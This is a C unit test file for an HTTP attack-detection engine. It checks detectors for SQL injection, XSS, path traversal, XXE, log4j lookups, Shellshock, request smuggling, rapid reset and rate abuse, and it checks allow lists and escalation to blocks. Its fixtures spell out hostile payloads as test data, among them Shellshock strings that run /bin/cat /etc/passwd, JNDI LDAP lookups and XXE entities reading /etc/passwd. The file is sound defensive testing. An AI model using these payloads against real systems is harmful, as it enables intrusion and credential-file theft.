/* test_verdict.c - the verdict engine: every detector positive and
 * negative on synthetic session events, monitor mode, allow list, cooldowns,
 * per-connection once, bounded client state, JSON fields, and a realistic
 * benign stream that must produce no verdict. */
#include <arpa/inet.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "common/json.h"
#include "collector/detect/rules.h"
#include "collector/decode/sess.h"
#include "collector/detect/verdict.h"
#include "collector/verdict_json.h"
#include "collector/detect/window.h"

#define SEC 1000000000ull
#define MS 1000000ull
#define T0 (1000 * SEC)
#define MAXV 16

#define JWT_ALICE "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSIsIm5hbWUiOiJBbGljZSIsImlhdCI6MTUxNjIzOTAyMn0.sig-abc_123"

static struct sess_event ev;
static struct sess_conn conns[8];
static struct verdict out[MAXV];

static struct sess_conn *conn_ip(int slot, const char *ip, uint64_t cookie)
{
	struct sess_conn *c = &conns[slot];

	memset(c, 0, sizeof(*c));
	c->family = AF_INET;
	inet_pton(AF_INET, ip, c->client_addr);
	inet_pton(AF_INET, "10.213.1.1", c->server_addr);
	c->client_port = 40000;
	c->server_port = 8080;
	c->cookie = cookie;
	snprintf(c->comm, sizeof(c->comm), "api");
	return c;
}

static struct sess_event *http(const struct sess_conn *c, const char *method,
			       const char *path, const char *query, int status)
{
	sess_event_init(&ev, SESS_PROTO_HTTP1, c);
	snprintf(ev.method, sizeof(ev.method), "%s", method);
	snprintf(ev.authority, sizeof(ev.authority), "api.test");
	snprintf(ev.path, sizeof(ev.path), "%s", path);
	snprintf(ev.query, sizeof(ev.query), "%s", query ? query : "");
	ev.status = status;
	ev.resp_bytes = 1500;
	ev.req_bytes = 300;
	return &ev;
}

static void hdr(const char *n, const char *v)
{
	sess_add_hdr(&ev, n, strlen(n), v, strlen(v));
}

static void body(const char *ct, const char *b)
{
	if (ct)
		hdr("content-type", ct);
	sess_add_body(&ev, b, strlen(b));
}

static struct rules *rules_enforce(void)
{
	struct rules *r;

	rules_default(&r);
	r->enforce = 1;
	return r;
}

static int judge(struct verdict_engine *v, uint64_t now)
{
	return verdict_judge(v, &ev, now, out, MAXV);
}

static const struct verdict *find(int n, const char *rule)
{
	for (int i = 0; i < n; i++)
		if (!strcmp(out[i].rule, rule))
			return &out[i];
	return NULL;
}

/* --- payload ---------------------------------------------------------------- */

struct payload_case {
	const char *name;
	const char *path, *query;
	const char *hname, *hval;
	const char *ctype, *body;
	const char *want; /* rule or NULL */
};

static void payload_attacks_positive_and_negative(void **state)
{
	static const struct payload_case cases[] = {
		{ "sqli in query", "/items", "id=1'%20or%20'1'='1", NULL, NULL, NULL, NULL, "sqli" },
		{ "sqli union in form body", "/search", NULL, NULL, NULL,
		  "application/x-www-form-urlencoded", "q=1+union+select+password+from+users--", "sqli" },
		{ "xss in json body", "/comments", NULL, NULL, NULL, "application/json",
		  "{\"text\": \"<script>alert(1)</script>\"}", "xss" },
		{ "traversal in query", "/download", "file=../../../../etc/passwd", NULL, NULL, NULL, NULL, "path_traversal" },
		{ "jndi in user-agent", "/", NULL, "user-agent", "${jndi:ldap://198.51.100.7/a}", NULL, NULL, "jndi" },
		{ "jndi in x-api-version", "/", NULL, "x-api-version", "${jndi:ldap://x.example/a}", NULL, NULL, "jndi" },
		{ "sqli in cookie", "/", NULL, "cookie", "theme=dark; pref=x' or '1'='1", NULL, NULL, "sqli" },
		/* CGI hands the whole Cookie header to bash as HTTP_COOKIE: a
		 * function definition there is Shellshock, whatever the
		 * cookie split makes of it; so is one in a scanned header */
		{ "shellshock as the whole cookie", "/cgi-bin/status", NULL, "cookie",
		  "() { :; }; /bin/cat /etc/passwd", NULL, NULL, "shellshock" },
		{ "shellshock in referer", "/cgi-bin/status", NULL, "referer",
		  "() { _; } >_[$($())] { /bin/id; }", NULL, NULL, "shellshock" },
		{ "benign search with quotes", "/search", "q=O'Brien%20%22pizza%22&page=2", NULL, NULL, NULL, NULL, NULL },
		{ "benign json", "/orders", NULL, NULL, NULL, "application/json",
		  "{\"item\": \"Union Station, Chicago\", \"qty\": 2, \"note\": \"it's a 'great' day\"}", NULL },
		{ "benign user-agent", "/", NULL, "user-agent",
		  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", NULL, NULL, NULL },
		/* a header outside scan_headers is judged only for what hurts in
		 * any header: a log4j lookup, a bash function definition */
		{ "jndi in unscanned header", "/", NULL, "x-custom", "${jndi:ldap://x/a}", NULL, NULL, "jndi" },
		{ "shellshock in unscanned header", "/cgi-bin/status", NULL, "x-custom",
		  "() { :; }; /bin/cat /etc/passwd", NULL, NULL, "shellshock" },
		{ "other attack in unscanned header ignored", "/", NULL, "x-custom", "' or '1'='1", NULL, NULL, NULL },
		{ "benign code in unscanned header", "/", NULL, "x-trace", "fn() { return; } ${HOME}", NULL, NULL, NULL },
		/* bash imports a header's value (HTTP_COOKIE) only when the
		 * definition opens it: one quoted further in is JavaScript */
		{ "benign json cookie holding a function", "/", NULL, "cookie",
		  "cfg={\"init\":\"() { load(); }\"}; sid=ab12", NULL, NULL, NULL },
		{ "benign quoted code in unscanned header", "/", NULL, "x-snippet",
		  "code=\"() { return x }; run()\"", NULL, NULL, NULL },
		{ "xxe in xml body", "/api/import", NULL, NULL, NULL, "application/xml",
		  "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", "xxe" },
		{ "traversal in xml attribute", "/api/import", NULL, NULL, NULL, "text/xml; charset=utf-8",
		  "<r><file name=\"../../../../etc/shadow\"/></r>", "path_traversal" },
		{ "benign xml body", "/api/import", NULL, NULL, NULL, "application/soap+xml",
		  "<?xml version=\"1.0\"?><Envelope><Body><Order id=\"42\">Rock &amp; Roll; cats | dogs</Order></Body></Envelope>", NULL },
		{ "html body not split into values", "/cms/page", NULL, NULL, NULL, "text/html",
		  "<p>admin' or '1'='1</p><script>a(); b | c;</script>", NULL },
		{ "nosql operator in json body", "/api/login", NULL, NULL, NULL, "application/json",
		  "{\"user\": {\"$ne\": null}, \"pass\": {\"$ne\": null}}", "nosqli" },
		{ "prototype pollution in query", "/api/merge", "__proto__%5BisAdmin%5D=true", NULL, NULL, NULL, NULL, "proto_pollution" },
		{ "multipart field", "/upload", NULL, NULL, NULL, "multipart/form-data; boundary=x",
		  "--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' or '1'='1\r\n--x--", "sqli" },
		{ "multipart file name", "/upload", NULL, NULL, NULL, "multipart/form-data; boundary=\"b 1\"",
		  "preamble\r\n--b 1\r\nContent-Disposition: form-data; name=f; filename=\"../../../../etc/passwd\"\r\n"
		  "Content-Type: image/png\r\n\r\n\x89PNG\r\n--b 1--\r\n", "path_traversal" },
		{ "multipart second field, LF only", "/upload", NULL, NULL, NULL, "multipart/form-data; boundary=zz",
		  "--zz\nContent-Disposition: form-data; name=\"a\"\n\nhello\n--zz\nContent-Disposition: form-data; name=\"c\"\n\n"
		  "<svg/onload=alert(1)>\n--zz--", "xss" },
		{ "multipart file content not judged", "/upload", NULL, NULL, NULL, "multipart/form-data; boundary=x",
		  "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"setup.sh\"\r\n\r\n"
		  "#!/bin/sh\ncd /tmp; cat /etc/passwd | wc -l\r\n--x--", NULL },
		{ "benign multipart form", "/upload", NULL, NULL, NULL, "multipart/form-data; boundary=x",
		  "--x\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\nDrop me a line; cat lovers welcome!\r\n--x--", NULL },
		{ "untyped body read as a form", "/search", NULL, NULL, NULL, NULL,
		  "q=1+union+select+password+from+users--", "sqli" },
		{ "text/plain body read as a value", "/note", NULL, NULL, NULL, "text/plain;charset=UTF-8",
		  "<script>alert(document.cookie)</script>", "xss" },
		{ "benign text/plain body", "/note", NULL, NULL, NULL, "text/plain",
		  "Meet at 5; bring the select union of cats & dogs.", NULL },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct payload_case *c = &cases[i];
		struct rules *r = rules_enforce();
		struct verdict_engine *v = verdict_new(r);
		int n;

		http(conn_ip(0, "10.213.2.2", 1), c->body ? "POST" : "GET", c->path, c->query, 200);
		if (c->hname)
			hdr(c->hname, c->hval);
		if (c->body)
			body(c->ctype, c->body);
		n = judge(v, T0);
		if (c->want) {
			const struct verdict *o = find(n, c->want);

			if (!o)
				fail_msg("%s: no %s verdict (%d verdicts, first %s)", c->name, c->want, n,
					 n ? out[0].rule : "-");
			assert_int_equal(o->action, VERDICT_KILL);
			assert_int_equal(o->wanted, VERDICT_KILL);
			assert_int_equal(o->severity, SEV_HIGH);
			assert_string_equal(o->client_key, "ip:10.213.2.2");
			assert_true(o->detect_ns == T0);
			assert_int_equal(o->client_family, AF_INET);
		} else if (n) {
			fail_msg("%s: unexpected %s: %s", c->name, out[0].rule, out[0].reason);
		}
		verdict_free(v);
		rules_free(r);
	}
}

/* A client may split its Cookie over several fields (HTTP/2 sends one per
 * crumb, RFC 9113 8.2.3; HTTP/1.1 may repeat the line): the server joins
 * them with "; " and a CGI hands bash that whole string as HTTP_COOKIE.
 * The crumbs judged one by one hide what only the joined string holds. */
static void payload_cookie_crumbs_judged_joined(void **state)
{
	static const char *const crumbs[][3] = {
		/* the Shellshock of the review, cut where the cookie split cuts */
		{ "() { _", "} >_[$($())] { /bin/id", "}" },
		{ "a=1", "() { :", "}; /bin/cat /etc/passwd" },
	};
	(void)state;
	for (size_t i = 0; i < sizeof(crumbs) / sizeof(crumbs[0]); i++) {
		struct rules *r = rules_enforce();
		struct verdict_engine *v = verdict_new(r);
		int n;

		http(conn_ip(0, "10.213.2.2", 1), "GET", "/cgi-bin/status", NULL, 200);
		for (int k = 0; k < 3; k++)
			hdr("cookie", crumbs[i][k]);
		n = judge(v, T0);
		if (!find(n, "shellshock"))
			fail_msg("crumbs %zu: no shellshock verdict (%d verdicts)", i, n);
		verdict_free(v);
		rules_free(r);
	}
	/* ordinary crumbs stay benign joined */
	{
		struct rules *r = rules_enforce();
		struct verdict_engine *v = verdict_new(r);
		int n;

		http(conn_ip(0, "10.213.2.2", 1), "GET", "/", NULL, 200);
		hdr("cookie", "sid=8f3a9c");
		hdr("cookie", "theme=dark");
		hdr("cookie", "cart={\"items\":[1,2]}");
		n = judge(v, T0);
		if (n)
			fail_msg("benign crumbs: unexpected %s: %s", out[0].rule, out[0].reason);
		verdict_free(v);
		rules_free(r);
	}
}

static void payload_min_score_and_disable(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v;

	(void)state;
	r->r[RULE_SQLI].enabled = 0;
	v = verdict_new(r);
	http(conn_ip(0, "10.213.2.2", 1), "GET", "/items", "id=1' or '1'='1", 200);
	assert_null(find(judge(v, T0), "sqli"));
	verdict_free(v);
	r->r[RULE_SQLI].enabled = 1;
	r->r[RULE_SQLI].threshold = 101; /* above any score */
	v = verdict_new(r);
	assert_null(find(judge(v, T0), "sqli"));
	verdict_free(v);
	rules_free(r);
}

static void websocket_message_prefix_judged_once_per_conn(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	struct sess_conn *c = conn_ip(0, "10.213.2.3", 77);

	(void)state;
	for (int phase = 0; phase < 3; phase++) {
		sess_event_init(&ev, SESS_PROTO_WEBSOCKET, c);
		ev.ws_phase = phase == 0 ? SESS_WS_OPEN : SESS_WS_PERIODIC;
		snprintf(ev.path, sizeof(ev.path), "/ws");
		body(NULL, "{\"cmd\": \"<img src=x onerror=alert(1)>\"}");
		assert_int_equal(judge(v, T0 + phase * SEC), phase == 0 ? 1 : 0);
		if (phase == 0)
			assert_string_equal(out[0].rule, "xss");
	}
	verdict_free(v);
	rules_free(r);
}

/* Issue 20 item 7: a client whose requests draw payload verdicts again
 * and again is blocked in the kernel with a TTL, not only cut request by
 * request. Default: the 3rd payload verdict within 60 s blocks for 600 s;
 * one request judged several times (request head, body windows) is one
 * strike; per rule: escalate_after (0: never), escalate_window, escalate_ttl. */
static int payload_req(struct verdict_engine *v, int slot, const char *ip, uint64_t cookie,
		       uint64_t now)
{
	http(conn_ip(slot, ip, cookie), "GET", "/items", "id=1' or '1'='1", 200);
	ev.req_ns = now;
	return judge(v, now);
}

static void payload_repeats_escalate_to_block(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	struct verdict_stats st;
	const struct verdict *o;

	(void)state;
	/* two strikes are kills, the third within 60 s a block */
	for (int i = 0; i < 3; i++) {
		assert_non_null(o = find(payload_req(v, 0, "10.213.4.1", 10 + i, T0 + i * 10 * SEC), "sqli"));
		assert_int_equal(o->action, i < 2 ? VERDICT_KILL : VERDICT_BLOCK);
		assert_int_equal(o->block_ttl_ns, i < 2 ? 0 : 600 * SEC);
	}
	assert_non_null(strstr(o->reason, "3 payload verdicts in 60s"));
	verdict_get_stats(v, &st);
	assert_int_equal(st.payload_escalated, 1);
	/* another client is not affected */
	assert_int_equal(find(payload_req(v, 1, "10.213.4.2", 20, T0 + 21 * SEC), "sqli")->action,
			 VERDICT_KILL);
	/* spread out: T0+100, +140, +180 -> two in any 60 s; +190 is the third */
	for (int i = 0; i < 3; i++)
		assert_int_equal(find(payload_req(v, 2, "10.213.4.3", 30 + i, T0 + (100 + 40 * i) * SEC),
				      "sqli")->action, VERDICT_KILL);
	assert_int_equal(find(payload_req(v, 2, "10.213.4.3", 33, T0 + 190 * SEC), "sqli")->action,
			 VERDICT_BLOCK);
	/* one request judged three times (head, then windows) is one strike */
	for (int i = 0; i < 3; i++) {
		http(conn_ip(3, "10.213.4.4", 40), "GET", "/items", "id=1' or '1'='1", 200);
		ev.req_ns = T0 + 300 * SEC;
		assert_int_equal(find(judge(v, T0 + 300 * SEC + i * MS), "sqli")->action, VERDICT_KILL);
	}
	/* a client a trusted proxy named (respond.c's forwarded copy) is not
	 * escalated here: localblock blocks it by its forwarded address, and a
	 * collector on the proxy's host sees each request on both hops */
	for (int i = 0; i < 4; i++) {
		struct sess_conn *fc = conn_ip(4, "10.213.4.5", 50 + i);

		fc->forwarded = 1;
		http(fc, "GET", "/items", "id=1' or '1'='1", 200);
		ev.req_ns = T0 + (400 + i) * SEC;
		assert_int_equal(find(judge(v, T0 + (400 + i) * SEC), "sqli")->action, VERDICT_KILL);
	}
	verdict_free(v);
	rules_free(r);
}

static void payload_escalation_configurable_per_rule(void **state)
{
	static const char y[] = "mode: enforce\nrules:\n"
				"  sqli: {escalate_after: 2, escalate_window: 10s, escalate_ttl: 120s}\n"
				"  xss: {escalate_after: 0}\n";
	static const char bad[] = "rules:\n  rate: {escalate_after: 2}\n";
	struct rules *r;
	struct verdict_engine *v;
	char err[256];
	const struct verdict *o;

	(void)state;
	assert_int_equal(rules_parse(&r, y, sizeof(y) - 1, "t", err, sizeof(err)), 0);
	v = verdict_new(r);
	assert_int_equal(find(payload_req(v, 0, "10.213.5.1", 1, T0), "sqli")->action, VERDICT_KILL);
	/* 11 s later: the first is outside the 10 s window */
	assert_int_equal(find(payload_req(v, 0, "10.213.5.1", 2, T0 + 11 * SEC), "sqli")->action,
			 VERDICT_KILL);
	assert_non_null(o = find(payload_req(v, 0, "10.213.5.1", 3, T0 + 12 * SEC), "sqli"));
	assert_int_equal(o->action, VERDICT_BLOCK);
	assert_int_equal(o->block_ttl_ns, 120 * SEC);
	/* xss never escalates */
	for (int i = 0; i < 5; i++) {
		http(conn_ip(1, "10.213.5.2", 10 + i), "GET", "/p", "q=<script>alert(1)</script>", 200);
		ev.req_ns = T0 + i * SEC;
		assert_int_equal(find(judge(v, T0 + i * SEC), "xss")->action, VERDICT_KILL);
	}
	verdict_free(v);
	rules_free(r);
	/* monitor mode: wanted block, action alert */
	rules_default(&r);
	v = verdict_new(r);
	for (int i = 0; i < 3; i++)
		o = find(payload_req(v, 0, "10.213.5.3", 20 + i, T0 + i * SEC), "sqli");
	assert_int_equal(o->wanted, VERDICT_BLOCK);
	assert_int_equal(o->action, VERDICT_ALERT);
	verdict_free(v);
	rules_free(r);
	assert_int_not_equal(rules_parse(&r, bad, sizeof(bad) - 1, "t", err, sizeof(err)), 0);
	assert_non_null(strstr(err, "takes no 'escalate_after' option"));
}

/* --- mode and allow list ------------------------------------------------------ */

static void monitor_mode_turns_kill_into_alert(void **state)
{
	struct rules *r;
	struct verdict_engine *v;
	struct verdict_stats st;

	(void)state;
	rules_default(&r); /* monitor */
	v = verdict_new(r);
	http(conn_ip(0, "10.213.2.2", 1), "GET", "/items", "id=1' or '1'='1", 200);
	assert_int_equal(judge(v, T0), 1);
	assert_int_equal(out[0].action, VERDICT_ALERT);
	assert_int_equal(out[0].wanted, VERDICT_KILL);
	verdict_get_stats(v, &st);
	assert_int_equal(st.downgraded_monitor, 1);
	verdict_free(v);
	rules_free(r);
}

static void allowlist_never_blocked_or_killed(void **state)
{
	static const char y[] = "mode: enforce\nallow: [10.213.7.0/24, \"apikey:ops-key\"]\n";
	struct rules *r;
	struct verdict_engine *v;
	char err[256];
	int n = 0, blocks = 0;

	(void)state;
	assert_int_equal(rules_parse(&r, y, sizeof(y) - 1, "t", err, sizeof(err)), 0);
	v = verdict_new(r);
	/* allowed address: payload attack and rate burst are alerts only */
	http(conn_ip(0, "10.213.7.9", 1), "GET", "/items", "id=1' or '1'='1", 200);
	assert_int_equal(judge(v, T0), 1);
	assert_int_equal(out[0].action, VERDICT_ALERT);
	assert_int_equal(out[0].wanted, VERDICT_KILL);
	assert_int_equal(out[0].allowed, 1);
	for (int i = 0; i < 300; i++) {
		http(&conns[0], "GET", "/items", NULL, 200);
		n = judge(v, T0 + SEC + i * MS);
		for (int k = 0; k < n; k++)
			blocks += out[k].action != VERDICT_ALERT;
	}
	assert_int_equal(blocks, 0);
	/* allowed identity from another address */
	http(conn_ip(1, "10.213.8.8", 2), "GET", "/items", "id=1' or '1'='1", 200);
	hdr("x-api-key", "ops-key");
	assert_int_equal(judge(v, T0), 1);
	assert_int_equal(out[0].action, VERDICT_ALERT);
	/* the same attack without the key is killed */
	http(&conns[1], "GET", "/items", "id=1' or '1'='1", 200);
	assert_int_equal(judge(v, T0), 1);
	assert_int_equal(out[0].action, VERDICT_KILL);
	verdict_free(v);
	rules_free(r);
}

/* --- protocol --------------------------------------------------------------- */

static void smuggling_kills_once_per_connection(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);

	(void)state;
	http(conn_ip(0, "10.213.2.4", 5), "POST", "/api", NULL, 200);
	sess_anom_add(&ev, "h1.cl_te", 1);
	assert_int_equal(judge(v, T0), 1);
	assert_string_equal(out[0].rule, "smuggling");
	assert_int_equal(out[0].action, VERDICT_KILL);
	assert_int_equal(out[0].severity, SEV_HIGH);
	/* same connection again: already judged */
	assert_int_equal(judge(v, T0 + 1), 0);
	/* another connection of the same client */
	http(conn_ip(0, "10.213.2.4", 6), "POST", "/api", NULL, 200);
	sess_anom_add(&ev, "h1.te_obfuscated", 1);
	assert_int_equal(judge(v, T0 + 2), 1);
	/* benign anomaly names trigger nothing */
	http(conn_ip(0, "10.213.2.4", 7), "GET", "/api", NULL, 200);
	sess_anom_add(&ev, "h1.gap", 3);
	assert_int_equal(judge(v, T0 + 3), 0);
	verdict_free(v);
	rules_free(r);
}

/* The inventory learns under the judge's template: the one of the event
 * judged last, none for an event without a path, none from a request-only
 * judgement. */
static void template_of_the_last_event(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);

	(void)state;
	assert_null(verdict_template(v));
	http(conn_ip(0, "10.213.2.9", 1), "GET", "/users/123/posts", NULL, 200);
	judge(v, T0);
	assert_string_equal(verdict_template(v), "/users/{id}/posts");
	http(conn_ip(0, "10.213.2.9", 1), "GET", "", NULL, 200);
	judge(v, T0 + 1);
	assert_null(verdict_template(v));
	http(conn_ip(0, "10.213.2.9", 1), "GET", "/a/6f1c2a4e-3b5d-4c7e-9f80-123456789abc", NULL, 200);
	judge(v, T0 + 2);
	assert_string_equal(verdict_template(v), "/a/{uuid}");
	verdict_free(v);
	rules_free(r);
}

static void oversize_is_alert_low(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);

	(void)state;
	http(conn_ip(0, "10.213.2.4", 5), "GET", "/api", NULL, 431);
	sess_anom_add(&ev, "h1.hdr_oversize", 1);
	assert_int_equal(judge(v, T0), 1);
	assert_string_equal(out[0].rule, "oversize");
	assert_int_equal(out[0].action, VERDICT_ALERT);
	assert_int_equal(out[0].severity, SEV_LOW);
	verdict_free(v);
	rules_free(r);
}

static void h2_rapid_reset_needs_many_then_blocks(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	int fired_at = -1;

	(void)state;
	conn_ip(0, "10.213.2.5", 9);
	for (int i = 0; i < 150; i++) {
		int n;

		sess_event_init(&ev, SESS_PROTO_HTTP2, &conns[0]);
		snprintf(ev.method, sizeof(ev.method), "GET");
		snprintf(ev.path, sizeof(ev.path), "/");
		ev.stream_id = 1 + 2 * (uint32_t)i;
		ev.flags |= SESS_F_NO_RESP;
		sess_anom_add(&ev, "h2.rapid_reset", 1);
		n = judge(v, T0 + i * MS);
		if (find(n, "h2_rapid_reset") && fired_at < 0) {
			fired_at = i;
			assert_int_equal(find(n, "h2_rapid_reset")->action, VERDICT_BLOCK);
			assert_true(find(n, "h2_rapid_reset")->block_ttl_ns == 60 * SEC);
		}
	}
	assert_int_equal(fired_at, 99); /* the 100th within 10 s */
	/* one continuation flood is enough */
	sess_event_init(&ev, SESS_PROTO_HTTP2, conn_ip(1, "10.213.2.6", 10));
	sess_anom_add(&ev, "h2.continuation_flood", 1);
	assert_non_null(find(judge(v, T0), "h2_flood"));
	/* a few resets spread out: nothing */
	sess_event_init(&ev, SESS_PROTO_HTTP2, conn_ip(2, "10.213.2.7", 11));
	sess_anom_add(&ev, "h2.rapid_reset", 1);
	assert_int_equal(judge(v, T0), 0);
	verdict_free(v);
	rules_free(r);
}

static void websocket_abuse_and_origin(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	int n;

	(void)state;
	sess_event_init(&ev, SESS_PROTO_WEBSOCKET, conn_ip(0, "10.213.2.8", 20));
	ev.ws_phase = SESS_WS_OPEN;
	snprintf(ev.origin, sizeof(ev.origin), "https://evil.example");
	sess_anom_add(&ev, "ws.foreign_origin", 1);
	n = judge(v, T0);
	assert_int_equal(n, 1);
	assert_string_equal(out[0].rule, "ws_origin");
	assert_int_equal(out[0].action, VERDICT_ALERT);
	assert_int_equal(out[0].severity, SEV_MEDIUM);
	/* later summaries carry the same cumulative count: no repeat */
	ev.ws_phase = SESS_WS_PERIODIC;
	sess_anom_add(&ev, "ws.message_flood", 1);
	n = judge(v, T0 + SEC);
	assert_int_equal(n, 1);
	assert_string_equal(out[0].rule, "ws_abuse");
	assert_int_equal(out[0].action, VERDICT_KILL);
	ev.ws_phase = SESS_WS_CLOSE;
	assert_int_equal(judge(v, T0 + 2 * SEC), 0);
	verdict_free(v);
	rules_free(r);
}

/* What sidewatch could not judge is itself judged: garbage to an HTTP port,
 * an endless run of empty lines. */
static void evasion_from_unclassified(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	int n;

	(void)state;
	sess_event_init(&ev, SESS_PROTO_HTTP1, conn_ip(0, "10.213.2.9", 30));
	sess_anom_add(&ev, "conn.garbage", 1);
	n = judge(v, T0);
	assert_int_equal(n, 1);
	assert_string_equal(out[0].rule, "evasion");
	assert_int_equal(out[0].severity, SEV_MEDIUM);
	assert_int_equal(out[0].action, VERDICT_ALERT);
	assert_string_equal(out[0].client_key, "ip:10.213.2.9");
	sess_event_init(&ev, SESS_PROTO_HTTP1, conn_ip(0, "10.213.2.10", 31));
	sess_anom_add(&ev, "conn.crlf_flood", 1);
	assert_non_null(find(judge(v, T0), "evasion"));
	verdict_free(v);
	rules_free(r);
}

/* A window (headers or body bytes a request's event could not keep) is
 * judged on what it adds: its body and headers, not again the path and
 * query it carries for reference. */
static void window_judged_on_its_own_bytes(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	struct verdict out2[8];

	(void)state;
	http(conn_ip(0, "10.213.2.11", 40), "POST", "/w", "id=1%27%20OR%201%3D1--", 0);
	ev.flags |= SESS_F_WINDOW;
	assert_int_equal(verdict_judge_request(v, &ev, T0, out2, 8), 0);
	body("application/x-www-form-urlencoded", "aaaa&id=1%27%20OR%201%3D1--");
	assert_int_equal(verdict_judge_request(v, &ev, T0, out2, 8), 1);
	assert_string_equal(out2[0].rule, "sqli");
	http(conn_ip(0, "10.213.2.11", 41), "GET", "/w", "", 0);
	ev.flags |= SESS_F_WINDOW;
	hdr("user-agent", "1' OR 1=1--");
	assert_int_equal(verdict_judge_request(v, &ev, T0, out2, 8), 1);
	assert_string_equal(out2[0].rule, "sqli");
	/* a URI window: query (or path) bytes past the event's bound are
	 * the request's own and judged (the decoder empties the other) */
	http(conn_ip(0, "10.213.2.11", 42), "GET", "", "aaaa&id=1%27%20OR%201%3D1--", 0);
	ev.flags |= SESS_F_WINDOW | SESS_F_WIN_URI;
	assert_int_equal(verdict_judge_request(v, &ev, T0, out2, 8), 1);
	assert_string_equal(out2[0].rule, "sqli");
	assert_non_null(strstr(out2[0].reason, "in query"));
	http(conn_ip(0, "10.213.2.11", 43), "GET", "/static/aaaa/../../../../etc/passwd", "", 0);
	ev.flags |= SESS_F_WINDOW | SESS_F_WIN_URI;
	assert_int_equal(verdict_judge_request(v, &ev, T0, out2, 8), 1);
	assert_string_equal(out2[0].rule, "path_traversal");
	verdict_free(v);
	rules_free(r);
}

static void slowloris_after_timeout_once(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	struct sess_conn *c = conn_ip(0, "10.213.2.9", 30);

	(void)state;
	assert_int_equal(verdict_judge_pending(v, c, T0, T0 + 5 * SEC, out, MAXV), 0);
	assert_int_equal(verdict_judge_pending(v, c, 0, T0 + 50 * SEC, out, MAXV), 0);
	assert_int_equal(verdict_judge_pending(v, c, T0, T0 + 10 * SEC, out, MAXV), 1);
	assert_string_equal(out[0].rule, "slowloris");
	assert_int_equal(out[0].action, VERDICT_KILL);
	assert_string_equal(out[0].client_key, "ip:10.213.2.9");
	assert_int_equal(verdict_judge_pending(v, c, T0, T0 + 20 * SEC, out, MAXV), 0);
	verdict_free(v);
	rules_free(r);
}

/* --- behaviour -------------------------------------------------------------- */

static void rate_burst_blocks_at_threshold(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	int first = -1, count = 0;

	(void)state;
	conn_ip(0, "10.213.3.1", 40);
	for (int i = 0; i < 400; i++) {
		const struct verdict *o;

		http(&conns[0], "GET", "/items", NULL, 200);
		o = find(judge(v, T0 + (uint64_t)i * 20 * MS), "rate"); /* 50/s */
		if (o) {
			count++;
			if (first < 0)
				first = i;
			assert_int_equal(o->action, VERDICT_BLOCK);
			assert_true(o->block_ttl_ns == 60 * SEC);
		}
	}
	assert_int_equal(first, 199);
	assert_int_equal(count, 1); /* cooldown 10 s, the run lasts 8 s */
	verdict_free(v);
	rules_free(r);
}

/* An IPv6 client rotating its address inside its /64 (one request from
 * each of 400 addresses at 50/s): with the default ipv6_prefix 128 each
 * address is a new client and the rate rule never fires; with
 * ipv6_prefix: 64 they add up, and the block names and covers the /64. */
static int rotating_v6(uint8_t plen, const struct verdict **hit)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v;
	static struct verdict keep;
	int first = -1;

	r->ipv6_prefix = plen;
	v = verdict_new(r);
	for (int i = 0; i < 400; i++) {
		const struct verdict *o;
		char ip[64];

		snprintf(ip, sizeof(ip), "2001:db8:1:2:%x:%x::%x", i * 7919 & 0xffff, i, i + 1);
		conn_ip(0, "10.213.3.1", 40 + (uint64_t)i);
		conns[0].family = AF_INET6;
		assert_int_equal(inet_pton(AF_INET6, ip, conns[0].client_addr), 1);
		http(&conns[0], "GET", "/items", NULL, 200);
		o = find(judge(v, T0 + (uint64_t)i * 20 * MS), "rate");
		if (o && first < 0) {
			first = i;
			keep = *o;
		}
	}
	*hit = first >= 0 ? &keep : NULL;
	verdict_free(v);
	rules_free(r);
	return first;
}

static void ipv6_prefix_counts_and_blocks_the_prefix(void **state)
{
	const struct verdict *o;
	uint8_t want[16];

	(void)state;
	assert_int_equal(rotating_v6(128, &o), -1);
	assert_null(o);
	assert_int_equal(rotating_v6(64, &o), 199);
	assert_non_null(o);
	assert_string_equal(o->client_key, "ip:2001:db8:1:2::/64");
	assert_int_equal(o->action, VERDICT_BLOCK);
	assert_int_equal(o->client_family, AF_INET6);
	assert_int_equal(o->client_prefix, 64);
	/* the address of the request that crossed the threshold, whole: the
	 * enforcer blocks its first 64 bits */
	inet_pton(AF_INET6, "2001:db8:1:2:bc9:c7::c8", want);
	assert_memory_equal(o->client_addr, want, 16);
	/* a /48 also adds up the /64s inside it */
	assert_int_equal(rotating_v6(48, &o), 199);
	assert_string_equal(o->client_key, "ip:2001:db8:1::/48");
}

static void rate_below_threshold_quiet(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);

	(void)state;
	conn_ip(0, "10.213.3.2", 41);
	/* 19 req/s for a minute: 190 per 10 s window */
	for (int i = 0; i < 19 * 60; i++) {
		http(&conns[0], "GET", "/items", NULL, 200);
		assert_int_equal(judge(v, T0 + (uint64_t)i * SEC / 19), 0);
	}
